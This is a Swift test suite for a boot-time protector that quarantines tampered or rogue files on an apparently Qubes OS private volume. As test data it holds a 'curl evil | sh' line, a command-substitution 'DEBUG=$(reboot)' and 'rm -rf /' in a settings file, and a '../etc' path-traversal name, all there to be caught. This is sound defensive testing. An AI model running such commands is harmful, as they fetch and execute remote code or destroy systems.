import BootProtect
import Foundation
import Glibc
import LQCommon
import SystemLayer
import Testing

/// The test cases listed at the end of spec §5.6, each on a temp folder.
@Suite struct ProtectorTests {
    @Test func identicalTemplateFileGetsPermissionsFixedAndIsMadeImmutable() throws {
        let box = try Sandbox()
        try box.file("rules/template.ALL/config/rc.local", "exit 0\n", mode: 0o755)
        try box.directory("rules/template.ALL/config", mode: 0o755)
        try box.file("rw/config/rc.local", "exit 0\n", mode: 0o644, owner: 1000, group: 1000)
        let report = box.run()
        #expect(report.errors.isEmpty)
        #expect(report.fixedPaths == ["config/rc.local"])
        #expect(report.fixed.first?.detail == "owner 1000:1000 → 0:0, mode 0644 → 0755, made immutable")
        #expect(report.quarantined.isEmpty && report.deployed.isEmpty)
        #expect(box.mode("rw/config/rc.local") == 0o755 && box.owner("rw/config/rc.local") == 0)
        #expect(box.isImmutable("rw/config/rc.local"))
        #expect(box.run().fixed.isEmpty, "a second run has nothing to fix")
    }

    @Test func changedTemplateFileIsQuarantinedAndRedeployed() throws {
        let box = try Sandbox()
        try box.file("rules/template.ALL/config/rc.local", "exit 0\n", mode: 0o755)
        try box.file("rw/config/rc.local", "curl evil | sh\n")
        let report = box.run()
        #expect(report.errors.isEmpty)
        #expect(report.quarantinedPaths == ["config/rc.local"])
        #expect(report.deployedPaths == ["config/rc.local"])
        #expect(box.content("rw/config/rc.local") == "exit 0\n" && box.mode("rw/config/rc.local") == 0o755)
        #expect(box.isImmutable("rw/config/rc.local"))
        #expect(box.content("rw/QUARANTINE/rc.local") == "curl evil | sh\n")
    }

    @Test func missingTemplateFileIsDeployedByPassTwoAndImmutableAtOnce() throws {
        let box = try Sandbox()
        try box.file("rules/template.ALL/config/rc.local", "exit 0\n", mode: 0o755)
        try box.file("rules/template.ALL/usrlocal/bin/tool", "#!/bin/sh\n", mode: 0o755, owner: 1000, group: 1000)
        try box.directory("rules/template.ALL/usrlocal", mode: 0o775)
        let report = box.run()
        #expect(report.errors.isEmpty)
        #expect(report.deployedPaths == ["config", "usrlocal"])
        #expect(box.content("rw/usrlocal/bin/tool") == "#!/bin/sh\n" && box.owner("rw/usrlocal/bin/tool") == 1000)
        #expect(box.mode("rw/usrlocal") == 0o775)
        #expect(box.isImmutable("rw/config/rc.local") && box.isImmutable("rw/usrlocal/bin/tool"))
    }

    @Test func passTwoFillsAFolderDeployedFromTheQubeTreeWithChildrenFromAll() throws {
        let box = try Sandbox()
        try box.file("rules/template.core-keys/home/user/.ssh-note", "keys\n")
        try box.file("rules/template.ALL/home/user/.bashrc", "set +o history\n")
        let report = box.run()
        #expect(report.errors.isEmpty)
        #expect(report.deployedPaths == ["home", "home/user/.bashrc"])
        #expect(box.list("rw/home/user") == [".bashrc", ".ssh-note"])
    }

    @Test func qubeTreeWinsOverAll() throws {
        let box = try Sandbox()
        try box.file("rules/template.core-keys/config/rc.local", "fstrim /rw\n")
        try box.file("rules/template.ALL/config/rc.local", "exit 0\n")
        try box.file("rw/config/rc.local", "exit 0\n")
        let report = box.run()
        #expect(report.quarantinedPaths == ["config/rc.local"])
        #expect(report.deployed.map(\.rule) == ["template.core-keys"])
        #expect(box.content("rw/config/rc.local") == "fstrim /rw\n")
    }

    @Test func templateAllWinsOverTheQubesChecksumTree() throws {
        let box = try Sandbox()
        try box.file("rules/template.ALL/config/x", "template\n")
        try box.bytes("rules/checksum.core-keys/config/x", ChecksumPin(of: Array("pinned\n".utf8)).fileBytes)
        try box.file("rw/config/x", "pinned\n")
        let report = box.run()
        #expect(report.quarantinedPaths == ["config/x"] && report.deployed.map(\.rule) == ["template.ALL"])
        #expect(box.content("rw/config/x") == "template\n")
    }

    @Test func symlinksAreJudgedByTheirText() throws {
        let box = try Sandbox()
        try box.symlink("rules/template.ALL/home/user/.cache", to: "/tmp")
        try box.symlink("rules/template.ALL/home/user/.local", to: "/tmp")
        try box.symlink("rules/template.ALL/home/user/.xsession-errors", to: "/dev/null")
        try box.symlink("rw/home/user/.cache", to: "/tmp")
        try box.symlink("rw/home/user/.local", to: "/var/tmp")
        try box.file("rw/home/user/.xsession-errors", "log")
        let report = box.run()
        #expect(report.errors.isEmpty)
        #expect(report.quarantinedPaths == ["home/user/.local", "home/user/.xsession-errors"])
        #expect(report.deployedPaths == ["home/user/.local", "home/user/.xsession-errors"])
        for name in [".cache", ".local"] { #expect((try? FileManager.default.destinationOfSymbolicLink(atPath: box.rw + "/home/user/" + name)) == "/tmp") }
        #expect((try? FileManager.default.destinationOfSymbolicLink(atPath: box.rw + "/home/user/.xsession-errors")) == "/dev/null")
    }

    @Test func checksumMatchIsKeptAndFixedMismatchQuarantinedMissingLeftMissing() throws {
        let box = try Sandbox()
        try box.directory("rules/checksum.core-keys/home/user", mode: 0o700, owner: 1000, group: 1000)
        try box.bytes("rules/checksum.core-keys/home/user/id_rsa", ChecksumPin(of: Array("secret\n".utf8)).fileBytes, mode: 0o600, owner: 1000, group: 1000)
        try box.bytes("rules/checksum.core-keys/home/user/other", ChecksumPin(of: Array("other\n".utf8)).fileBytes, mode: 0o600, owner: 1000, group: 1000)
        try box.bytes("rules/checksum.core-keys/home/user/absent", ChecksumPin(of: Array("absent\n".utf8)).fileBytes)
        try box.file("rw/home/user/id_rsa", "secret\n", mode: 0o644)
        try box.file("rw/home/user/other", "tampered\n", mode: 0o600, owner: 1000, group: 1000)
        let report = box.run()
        #expect(report.errors.isEmpty)
        #expect(report.fixedPaths == ["home/user", "home/user/id_rsa"])
        #expect(box.mode("rw/home/user/id_rsa") == 0o600 && box.owner("rw/home/user/id_rsa") == 1000 && box.isImmutable("rw/home/user/id_rsa"))
        #expect(report.quarantinedPaths == ["home/user/other"] && report.quarantined[0].detail.hasPrefix("checksum mismatch"))
        #expect(!box.exists("rw/home/user/absent") && report.deployed.isEmpty)
    }

    @Test func uppercaseHexMatchesAndAOneLineChecksumFileIsRejected() throws {
        let box = try Sandbox()
        let pin = String(decoding: ChecksumPin(of: Array("a\n".utf8)).fileBytes, as: UTF8.self)
        try box.file("rules/checksum.ALL/upper", pin.uppercased())
        try box.file("rules/checksum.ALL/short", String(pin.prefix(64)) + "\n")
        try box.file("rw/upper", "a\n")
        try box.file("rw/short", "a\n")
        let report = box.run()
        #expect(report.quarantinedPaths == ["short"])
        #expect(report.errors.map(\.description) == ["short: bad checksum file: a checksum file must hold exactly 2 lines (sha256, sha512), not 1 (rule checksum.ALL)"])
        #expect(box.exists("rw/upper"))
    }

    @Test func whitelistEntryOfTheWrongTypeIsQuarantined() throws {
        let box = try Sandbox()
        try box.file("rules/whitelist.ALL/state", "")
        try box.directory("rules/whitelist.ALL/dir")
        try box.directory("rw/state")
        try box.file("rw/dir", "x")
        try box.file("rw/ok", "")
        try box.file("rules/whitelist.ALL/ok", "", mode: 0o600)
        let report = box.run()
        #expect(report.quarantinedPaths == ["dir", "state"])
        #expect(report.fixedPaths == ["ok"] && box.mode("rw/ok") == 0o600 && !box.isImmutable("rw/ok"))
    }

    /// A marker case: rules files (under `rules/`), volume entries (under `rw/`; a trailing `/` makes a
    /// folder), and what must be quarantined; every other volume entry must still be there.
    struct MarkerCase: Sendable, CustomTestStringConvertible {
        var name: String
        var rules: [String]
        var volume: [String]
        var quarantined: [String]
        var testDescription: String { name }
    }

    @Test(arguments: [
        MarkerCase(
            name: ".any_file: a file in D kept, a folder in D and a file in D/sub quarantined",
            rules: ["whitelist.ALL/nm/.any_file", "whitelist.ALL/nm/sub/"],
            volume: ["nm/wifi.conf", "nm/dir/", "nm/sub/deep.conf"], quarantined: ["nm/dir", "nm/sub/deep.conf"]),
        MarkerCase(
            name: ".any_dir: D/sub and D/sub/x/y kept, the file D/f quarantined",
            rules: ["whitelist.ALL/var-lib/.any_dir"],
            volume: ["var-lib/sub/", "var-lib/sub/x/y", "var-lib/f"], quarantined: ["var-lib/f"]),
        MarkerCase(
            name: "./.any_dir: everything below the top level kept",
            rules: ["whitelist.ALL/.any_dir"], volume: ["top/inner", "loose"], quarantined: ["loose"]),
        MarkerCase(
            name: "the qube's whitelist counts like ALL",
            rules: ["whitelist.core-keys/nm/.any_file"], volume: ["nm/a", "nm/b/"], quarantined: ["nm/b"]),
        MarkerCase(
            name: "ALLOW_ROGUE=Yes keeps what no rule allows",
            rules: ["settings.core-keys=ALLOW_ROGUE=Yes"], volume: ["rogue", "dir/file"], quarantined: []),
    ])
    func markers(_ test: MarkerCase) throws {
        let box = try Sandbox()
        for rule in test.rules {
            let parts = rule.split(separator: "=", maxSplits: 1).map(String.init)
            if rule.hasSuffix("/") { try box.directory("rules/" + rule) } else { try box.file("rules/" + parts[0], parts.count > 1 ? parts[1] + "\n" : "") }
        }
        for entry in test.volume {
            if entry.hasSuffix("/") { try box.directory("rw/" + entry) } else { try box.file("rw/" + entry, "x") }
        }
        let report = box.run()
        #expect(report.errors.isEmpty)
        #expect(report.quarantinedPaths == test.quarantined)
        for entry in test.volume where !test.quarantined.contains(where: { entry.hasPrefix($0) }) {
            #expect(box.exists("rw/" + entry), "\(entry) kept")
        }
    }

    @Test func rogueDirectoryIsQuarantinedOnceWithItsChildren() throws {
        let box = try Sandbox()
        try box.file("rw/rogue/a/b", "1")
        try box.file("rw/rogue/c", "2")
        let report = box.run()
        #expect(report.quarantinedPaths == ["rogue"] && report.errors.isEmpty)
        #expect(box.content("rw/QUARANTINE/rogue/a/b") == "1")
    }

    @Test func quarantineCollisionRenamesTheOlderEntry() throws {
        let box = try Sandbox()
        try box.file("rw/QUARANTINE/notes", "older")
        try box.file("rw/notes", "newer")
        let report = box.run()
        #expect(report.quarantinedPaths == ["notes"])
        let names = box.list("rw/QUARANTINE")
        #expect(names.count == 2 && names[0] == "notes")
        #expect(names[1].hasPrefix("notes.") && names[1].dropFirst(6).allSatisfy(\.isNumber))
        #expect(box.content("rw/QUARANTINE/notes") == "newer" && box.content("rw/QUARANTINE/" + names[1]) == "older")
    }

    @Test func quarantineNoDeletes() throws {
        let box = try Sandbox()
        try box.settings("QUARANTINE=No\n")
        try box.file("rules/template.ALL/config/rc.local", "exit 0\n")
        try box.file("rw/config/rc.local", "changed\n")
        try box.file("rw/rogue/deep/file", "x")
        let report = box.run()
        #expect(report.errors.isEmpty)
        #expect(report.deletedPaths == ["config/rc.local", "rogue"])
        #expect(report.deployedPaths == ["config/rc.local"] && report.quarantined.isEmpty)
        #expect(!box.exists("rw/QUARANTINE") && !box.exists("rw/rogue"))
        #expect(box.list("rw/config") == ["rc.local"])
    }

    @Test func activeNoIsANoOp() throws {
        let box = try Sandbox()
        try box.settings("ACTIVE=No\n")
        try box.file("rw/rogue", "x")
        try box.file("rules/template.ALL/config/rc.local", "exit 0\n")
        let report = box.run()
        #expect(report.outcome == .inactive)
        #expect(box.list("rw") == ["rogue"])
    }

    @Test func firstBootFlagIsANoOp() throws {
        let box = try Sandbox()
        try box.file("rw/rogue", "x")
        let report = box.run(firstBoot: true)
        #expect(report.outcome == .firstBoot && report.powerOff == nil)
        #expect(box.list("rw") == ["rogue"])
        try box.settings("POWEROFF=yes\n")
        #expect(box.run(firstBoot: true).powerOff == .inOneMinute)
    }

    @Test func allZeroDeviceIsAFirstBootAndANonZeroUnmountableOneAnError() throws {
        let box = try Sandbox()
        try box.bytes("blank.img", [UInt8](repeating: 0, count: 1 << 17))
        try box.bytes("junk.img", [UInt8](repeating: 0, count: 4096) + [7] + [UInt8](repeating: 0, count: 4096))
        try box.directory("mnt")
        for (image, outcome) in [("blank.img", ProtectReport.Outcome.firstBoot), ("junk.img", .failed)] {
            let report = BootProtect.run(
                volume: .device(box.folder + "/" + image, mountPoint: box.folder + "/mnt"), rules: box.rules,
                options: ProtectOptions(qube: box.qube))
            #expect(report.outcome == outcome && report.powerOff == nil)
            #expect(report.errors.map(\.code) == (outcome == .failed ? [.mount] : []))
        }
    }

    /// A blank device is formatted as Qubes' setup-rwdev.sh would (real mkfs.ext4), then mounted; an image
    /// file is no block device, so the mount after formatting fails here (the realistic root's boot
    /// simulation mounts a loop device). A volume that is not blank, and a dry run, are never formatted.
    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: "/sbin/mkfs.ext4")))
    func blankDeviceIsFormattedAsQubesWouldAndNothingElseIs() throws {
        let box = try Sandbox()
        try box.directory("mnt")
        let run = { (image: String, dryRun: Bool, format: BlankVolumeFormat) in
            BootProtect.run(
                volume: .device(box.folder + "/" + image, mountPoint: box.folder + "/mnt"), rules: box.rules,
                options: ProtectOptions(qube: box.qube, dryRun: dryRun, formatBlank: format))
        }
        let ext4Magic = { (image: String) throws -> [UInt8] in
            Array(try Data(contentsOf: URL(fileURLWithPath: box.folder + "/" + image))[1080..<1082])
        }
        let blank = [UInt8](repeating: 0, count: 4 << 20)
        try box.bytes("blank.img", blank)
        try box.bytes("junk.img", Array(blank.prefix(8192)) + [7] + Array(blank.prefix(8192)))

        let dryRun = run("blank.img", true, BlankVolumeFormat(journal: false))
        #expect(dryRun.outcome == .firstBoot && dryRun.formatted == nil)
        #expect(try ext4Magic("blank.img") == [0, 0])

        let junk = run("junk.img", false, BlankVolumeFormat(journal: false))
        #expect(junk.outcome == .failed && junk.formatted == nil && junk.errors.map(\.code) == [.mount])

        let failing = run("blank.img", false, BlankVolumeFormat(journal: true, program: "/bin/false"))
        #expect(failing.outcome == .failed && failing.formatted == nil)
        #expect(failing.errors.first?.message.contains("cannot format the blank volume: /bin/false exited with 1") == true)

        let formatted = run("blank.img", false, BlankVolumeFormat(journal: false))
        #expect(formatted.formatted == box.folder + "/blank.img")
        #expect(try ext4Magic("blank.img") == [0x53, 0xEF])
        #expect(formatted.outcome == .failed && formatted.errors.map(\.code) == [.mount])
        #expect(formatted.errors.first?.message.contains("cannot mount the blank volume") == true)
    }

    @Test func topLevelQuarantineIsNeverWalked() throws {
        let box = try Sandbox()
        try box.file("rw/QUARANTINE/old/evil", "x")
        let report = box.run()
        #expect(report.quarantined.isEmpty && report.errors.isEmpty)
        #expect(box.exists("rw/QUARANTINE/old/evil"))
    }

    @Test func namesWithSpacesNewlinesAndGlobCharactersAreHandled() throws {
        let box = try Sandbox()
        try box.file("rules/template.ALL/my file*", "kept\n")
        try box.file("rules/whitelist.ALL/a\nb", "")
        try box.file("rw/my file*", "changed\n")
        try box.file("rw/a\nb", "x")
        try box.file("rw/*", "glob")
        try box.file("rw/two words", "x")
        let report = box.run()
        #expect(report.errors.isEmpty)
        #expect(report.quarantinedPaths == ["*", "my file*", "two words"])
        #expect(box.content("rw/my file*") == "kept\n" && box.exists("rw/a\nb") && box.exists("rw/QUARANTINE/*"))
        #expect(box.list("rw") == ["QUARANTINE", "a\nb", "my file*"])
        let shown = RelativePath([Array("a\nb".utf8)]).description
        #expect(shown == "a\\x0ab")
    }

    @Test func chownComesBeforeChmodSoSetuidSurvives() throws {
        let box = try Sandbox()
        try box.file("rules/template.ALL/bin/su-tool", "#!\n", mode: 0o4755, owner: 1000, group: 1000)
        try box.file("rw/bin/su-tool", "#!\n", mode: 0o755)
        box.run()
        #expect(box.mode("rw/bin/su-tool") == 0o4755 && box.owner("rw/bin/su-tool") == 1000)
    }

    @Test func unsupportedTreeEntriesQuarantineTheVolumeEntry() throws {
        let box = try Sandbox()
        try box.directory("rules/template.ALL")
        box.fifo("rules/template.ALL/pipe")
        try box.symlink("rules/checksum.ALL/link", to: "/etc")
        try box.file("rw/pipe", "x")
        try box.symlink("rw/link", to: "/etc")
        let report = box.run()
        #expect(report.quarantinedPaths == ["link", "pipe"])
        #expect(report.errors.map(\.code) == [.rules, .rules])
    }

    @Test func dryRunChangesNothingAndReportsTheSame() throws {
        let box = try Sandbox()
        try box.file("rules/template.ALL/config/rc.local", "exit 0\n", mode: 0o755)
        try box.file("rules/template.ALL/home/user/.bashrc", "x\n")
        try box.file("rw/config/rc.local", "changed\n")
        try box.file("rw/rogue/child", "x")
        try box.file("rw/ok-mode", "")
        let before = box.list("rw")
        let notifier = RecordingNotifier()
        let dry = box.run(dryRun: true, notifier: notifier)
        #expect(box.list("rw") == before && box.content("rw/config/rc.local") == "changed\n")
        #expect(notifier.messages.isEmpty)
        #expect(dry.quarantinedPaths == ["config/rc.local", "ok-mode", "rogue"])
        #expect(dry.deployedPaths == ["config/rc.local", "home"])
        let real = box.run(notifier: notifier)
        #expect(real.quarantinedPaths == dry.quarantinedPaths && real.deployedPaths == dry.deployedPaths)
        #expect(notifier.messages == ["core-keys: Files quarantined during boot: 3 quarantined, 2 deployed"])
    }

    @Test func settingsAreDataNotShell() throws {
        let (settings, issues) = Settings.parse(Array("# c\nexport QUARANTINE=\"no\"\nALLOW_ROGUE='Y'\nDEBUG=$(reboot)\nrm -rf /\nFOO=1\n\n".utf8))
        #expect(!settings.quarantine && settings.allowRogue && !settings.debug && settings.active)
        #expect(issues.map(\.description) == [
            "line 4: unknown value for DEBUG (want Yes or No); read as No", "line 5: not KEY=VALUE; ignored",
            "line 6: unknown setting FOO; ignored",
        ])
    }

    @Test func invalidQubeNameIsRefusedBeforeTouchingAnything() throws {
        let box = try Sandbox()
        try box.file("rw/rogue", "x")
        let report = BootProtect.run(volume: .folder(box.rw), rules: box.rules, options: ProtectOptions(qube: "../etc"))
        #expect(report.outcome == .failed && box.exists("rw/rogue"))
    }
}
